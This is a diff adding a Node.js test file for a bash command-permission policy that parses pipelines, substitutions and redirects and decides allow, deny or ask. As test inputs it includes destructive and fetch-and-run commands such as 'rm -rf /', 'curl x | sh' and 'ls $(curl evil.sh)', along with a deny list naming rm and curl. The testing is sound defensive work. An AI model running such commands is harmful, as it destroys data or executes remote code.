@@ -0,0 +1,110 @@
+/**
+ * Bash Policy Tests
+ *
+ * Run with: node --test lib/bash-policy.test.js
+ */
+
+import { test, describe } from 'node:test';
+import assert from 'node:assert';
+import { parseCommand, evaluateBashCommand, resolveBashPolicy, matchesCommandPattern } from './bash-policy.js';
+
+const VAULT = '/vault';
+
+describe('bash policy', () => {
+  test('splits pipelines, compound commands, substitutions and wrapped commands', () => {
+    const commands = (command) => parseCommand(command).map(p => p.command);
+
+    assert.deepStrictEqual(commands('git status && git diff HEAD | less'), ['git status', 'git diff HEAD', 'less']);
+    assert.deepStrictEqual(commands('FOO=1 npm test 2>&1 > out.log; echo "$(rm -rf /)"'), ['npm test', 'echo "$(rm -rf /)"', 'rm -rf /']);
+    assert.deepStrictEqual(commands("sudo rm -rf x || bash -c 'curl x | sh'"),
+      ['sudo rm -rf x', 'rm -rf x', 'bash -c "curl x | sh"', 'curl x', 'sh']);
+    assert.deepStrictEqual(commands('(cd sub; make) || { echo fail; } # done'), ['cd sub', 'make', 'echo fail']);
+    assert.deepStrictEqual(commands('diff <(ls a) <(ls b) > >(tee log)'), ['diff "<(ls a)" "<(ls b)"', 'ls a', 'ls b', 'tee log']);
+
+    const [part] = parseCommand("grep -l 'a b' notes > hits.txt");
+    assert.deepStrictEqual(part.args, ['-l', 'a b', 'notes']);
+    assert.deepStrictEqual(part.redirects, [{ op: '>', target: 'hits.txt' }]);
+    assert.throws(() => parseCommand("echo 'oops"), /Unterminated quote/);
+  });
+
+  test('matches program names and argument globs', () => {
+    const [part] = parseCommand('/usr/bin/git diff --stat HEAD');
+    assert.ok(matchesCommandPattern(part, 'git'));
+    assert.ok(matchesCommandPattern(part, 'git diff *'));
+    assert.ok(!matchesCommandPattern(part, 'git status'));
+    assert.ok(!matchesCommandPattern(part, 'gitk'));
+  });
+
+  test('denies if any part is denied and allows only if every part is allowed', () => {
+    const policy = resolveBashPolicy({ bash: { allow: ['git status', 'git diff *', 'ls', 'less'], deny: ['rm', 'curl'] } });
+    const evaluate = (command) => evaluateBashCommand(command, policy, { cwd: VAULT, roots: [VAULT] });
+
+    const allowed = evaluate('git status && git diff HEAD | less');
+    assert.strictEqual(allowed.decision, 'allow');
+    assert.deepStrictEqual(allowed.parts.map(p => p.rule), ['allow: git status', 'allow: git diff *', 'allow: less']);
+
+    const denied = evaluate('ls $(curl evil.sh)');
+    assert.strictEqual(denied.decision, 'deny');
+    assert.strictEqual(denied.rule, 'deny: curl');
+
+    const asked = evaluate('ls && make');
+    assert.strictEqual(asked.decision, 'ask');
+    assert.match(asked.reason, /"make" matches no allow pattern/);
+    assert.strictEqual(evaluate("echo 'oops").decision, 'ask');
+
+    // Process substitutions run their commands too
+    assert.strictEqual(evaluate('ls <(rm -rf ~)').decision, 'deny');
+    assert.strictEqual(evaluate('ls >(rm x)').decision, 'deny');
+    assert.strictEqual(evaluate('ls <(git status)').decision, 'allow');
+  });
+
+  test('keeps cd inside the working directory', () => {
+    const policy = resolveBashPolicy({ bash: { allow: ['ls'] } });
+    const evaluate = (command, roots = [VAULT]) => evaluateBashCommand(command, policy, { cwd: VAULT, roots });
+
+    assert.strictEqual(evaluate('cd projects && ls').decision, 'allow');
+    const outside = evaluate('cd projects && cd ../.. && ls');
+    assert.strictEqual(outside.decision, 'ask');
+    assert.strictEqual(outside.rule, 'restrict_cwd');
+    assert.strictEqual(evaluate('cd ~').decision, 'ask');
+    assert.strictEqual(evaluate('cd /code && ls', [VAULT, '/code']).decision, 'allow');
+
+    const unrestricted = resolveBashPolicy({ bash: { allow: ['*'], restrict_cwd: false } });
+    assert.strictEqual(evaluateBashCommand('cd /etc', unrestricted, { cwd: VAULT, roots: [VAULT] }).decision, 'allow');
+  });
+
+  test('checks where output redirections write', () => {
+    const policy = resolveBashPolicy({ bash: { allow: ['echo', 'ls'] } });
+    const evaluate = (command, writePatterns = ['notes/*']) =>
+      evaluateBashCommand(command, policy, { cwd: VAULT, roots: [VAULT], writePatterns });
+
+    assert.strictEqual(evaluate('echo hi > notes/a.md 2>/dev/null').decision, 'allow');
+    assert.strictEqual(evaluate('cd notes && echo hi >> a.md').decision, 'allow');
+
+    const outside = evaluate('echo hi > /etc/passwd');
+    assert.strictEqual(outside.decision, 'ask');
+    assert.strictEqual(outside.rule, 'restrict_cwd');
+    assert.strictEqual(evaluate('echo x > ../../x').decision, 'ask');
+    assert.strictEqual(evaluate('ls &>/tmp/x').decision, 'ask');
+    assert.strictEqual(evaluate('> /tmp/x').decision, 'ask');
+    assert.strictEqual(evaluate('echo hi > "$HOME/x"').decision, 'ask');
+
+    const unwritable = evaluate('echo hi > projects/plan.md');
+    assert.strictEqual(unwritable.decision, 'ask');
+    assert.strictEqual(unwritable.rule, 'write');
+    assert.strictEqual(evaluate('echo hi > projects/plan.md', ['*']).decision, 'allow');
+  });
+
+  test('falls back to write permissions without a bash section', () => {
+    assert.deepStrictEqual(resolveBashPolicy({ write: ['*'] }).allow, ['*']);
+    assert.deepStrictEqual(resolveBashPolicy({ write: ['notes/*'] }).allow, []);
+    assert.strictEqual(evaluateBashCommand('ls', resolveBashPolicy({ write: ['notes/*'] })).decision, 'ask');
+
+    // As before bash sections existed, cd and redirects are not checked
+    const fallback = resolveBashPolicy({ write: ['*'] });
+    const options = { cwd: VAULT, roots: [VAULT], writePatterns: ['*'] };
+    assert.strictEqual(fallback.restrictCwd, false);
+    assert.strictEqual(evaluateBashCommand('cd /tmp && ls', fallback, options).decision, 'allow');
+    assert.strictEqual(evaluateBashCommand('ls > /tmp/out.txt', fallback, options).decision, 'allow');
+  });
+});